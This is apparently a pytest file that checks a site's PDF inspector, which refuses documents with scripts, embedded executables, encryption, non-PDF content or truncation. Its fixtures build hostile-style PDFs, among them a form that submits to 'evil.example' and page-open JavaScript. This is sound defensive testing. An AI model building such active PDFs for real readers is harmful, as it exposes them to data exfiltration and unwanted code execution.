"""The PDFs the site publishes as they are: what readers could not open, or what a viewer would run, is refused."""

from __future__ import annotations

from pathlib import Path

import pytest
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from conftest import write_pdf
from hub.content.documents import DocumentError, inspect


def submitting(writer: PdfWriter) -> None:
    """A form field whose button sends the form to another website."""
    action = DictionaryObject({NameObject("/S"): NameObject("/SubmitForm"), NameObject("/F"): TextStringObject("https://evil.example/")})
    field = DictionaryObject({NameObject("/FT"): NameObject("/Btn"), NameObject("/A"): action})
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/Fields"): ArrayObject([field])})


def a_page_script(writer: PdfWriter) -> None:
    """A script on a page's opening (its additional actions), deep in the page tree rather than in the catalog."""
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")})})


@pytest.mark.parametrize(("change", "expected"), [
    (lambda writer: writer.add_open_action(JavaScript("app.alert(1)")), "holds a script"),
    (a_page_script, "holds a script"),
    (lambda writer: writer.add_attachment("invoice.exe", b"MZ"), "carries another file"),
    (submitting, "holds a form that sends"),
    (lambda writer: writer.encrypt("secret"), "protected by a password"),
])
def test_an_active_or_locked_pdf_is_refused(tmp_path: Path, change, expected: str) -> None:
    with pytest.raises(DocumentError, match=expected):
        inspect(write_pdf(tmp_path / "report.pdf", change=change))


def test_what_is_no_pdf_or_is_cut_short_is_refused_and_a_real_one_passes(tmp_path: Path) -> None:
    real = write_pdf(tmp_path / "real.pdf", heavy=20_000)
    inspect(real)
    html = tmp_path / "page.pdf"
    html.write_text("<script>alert(1)</script>", encoding="utf-8")
    with pytest.raises(DocumentError, match="is no PDF document"):
        inspect(html)
    cut = tmp_path / "cut.pdf"
    cut.write_bytes(real.read_bytes()[:300])
    with pytest.raises(DocumentError, match="could not be read as a PDF document"):
        inspect(cut)
